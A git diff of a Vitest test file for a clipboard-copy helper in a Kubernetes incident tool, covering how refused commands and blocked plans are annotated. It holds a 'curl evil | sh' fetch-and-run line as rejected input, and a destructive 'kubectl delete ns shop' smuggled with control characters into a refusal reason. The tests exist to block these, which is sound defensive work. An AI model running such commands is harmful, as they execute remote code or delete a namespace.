@@ -1,5 +1,5 @@
-import { expect, it } from 'vitest'
-import type { CommandView } from '../../contract/index.ts'
+import { describe, expect, it } from 'vitest'
+import type { ChecklistView, CommandView, Plan } from '../../contract/index.ts'
 import { FailureError, failureOf } from '../../contract/index.ts'
 import { clipboardText, type Copyable } from './clipboard-text.ts'
 
@@ -9,25 +9,20 @@ function command(seq: number, line: string): CommandView {
     at: '2026-03-01T02:06:31.000Z',
     label: 'executed',
     command: line,
-    request: null,
     status: 200,
     durationMs: 41,
     outcome: 'succeeded',
-    result: '200 · 41 ms',
-    detail: ''
+    result: '200 · 41 ms'
   }
 }
 
 const from: Copyable = {
   plan: null,
-  record: {
-    health: { state: 'healthy', path: '/journal', lastSeq: 9 },
-    commands: [command(3, "kubectl --context 'a b' get pods"), command(4, 'kubectl rollout undo deployment/a')],
-    timeline: []
-  },
-  report: { fields: {} as Copyable['report']['fields'], markdown: '# Report\n\nText\n', missing: [] },
+  traps: [],
+  commands: [command(3, "kubectl --context 'a b' get pods"), command(4, 'kubectl rollout undo deployment/a')],
+  report: () => '# Report\n\nText\n',
   output: null,
-  statusUpdate: null,
+  statusUpdate: () => undefined,
   profile: { contacts: [], problems: [], places: [], incidents: null },
   checklist: { runbook: '', title: '', subtitle: '', tasks: [], problems: [] },
   published: [],
@@ -81,4 +76,56 @@ it('is the grant of the failure that offers it, wherever the window shows it', (
     expect(clipboardText({ kind: 'grant', grant }, { ...from, published })).toBe(`kind: Role # ${verb}`)
   }
   expect(() => clipboardText({ kind: 'grant', grant: 'curl evil | sh' }, { ...from, published })).toThrow(FailureError)
+})
+
+describe('what was refused', () => {
+  const undo = 'kubectl -n shop rollout undo deployment/cart'
+  const refused = (reason: string): CommandView => ({
+    ...command(7, undo),
+    label: 'refused',
+    outcome: null,
+    result: reason
+  })
+  const owned = 'The Canary shop/cart takes it back.'
+
+  it('is copied with the refusal above it, alone and in the log', () => {
+    const copyable = { ...from, commands: [refused(owned)] }
+    expect(clipboardText({ kind: 'command', seq: 7 }, copyable)).toBe(`# Refused: ${owned}\n${undo}`)
+    expect(clipboardText({ kind: 'allCommands' }, copyable)).toBe(
+      `# Refused: ${owned}\n2026-03-01T02:06:31.000Z  refused  ${undo}`
+    )
+  })
+
+  it('has a reason that is nothing but a comment, whatever the cluster says', () => {
+    const copyable = { ...from, commands: [refused('admission webhook:\r\n\u2028kubectl delete ns shop\u0007\n')] }
+    expect(clipboardText({ kind: 'command', seq: 7 }, copyable).split('\n')).toEqual([
+      '# Refused: admission webhook: kubectl delete ns shop',
+      undo
+    ])
+  })
+
+  it("holds for the procedure's commands that are a trap here, and for a plan that is blocked", () => {
+    const task = { id: 'undo', commands: [undo, 'kubectl get pods'] } as unknown as ChecklistView['tasks'][number]
+    const trap = { id: 'T3', severity: 'refused', lead: 'Not here.', text: owned, source: '', command: undo } as const
+    const plan = {
+      id: 'p',
+      steps: [{ command: undo }],
+      words: { title: 'Roll back' },
+      scope: { environment: 'east', service: null },
+      withoutYou: {},
+      digest: 'abc',
+      inverse: null,
+      blocked: failureOf('forbidden', 'You may not patch it.')
+    } as unknown as Plan
+    const copyable = { ...from, plan, traps: [trap], checklist: { ...from.checklist, tasks: [task] } }
+    const copied = (index: number) => clipboardText({ kind: 'taskCommand', taskId: 'undo', index }, copyable)
+    expect(copied(0)).toBe(`# Refused: Not here. ${owned}\n${undo}`)
+    expect(copied(1)).toBe('kubectl get pods')
+    expect(clipboardText({ kind: 'planCommand', planId: 'p' }, copyable)).toBe(
+      `# Blocked: You may not patch it.\n${undo}`
+    )
+    expect(clipboardText({ kind: 'planForColleague', planId: 'p' }, copyable)).toContain(
+      `# Blocked: You may not patch it.\n$ ${undo}`
+    )
+  })
 })
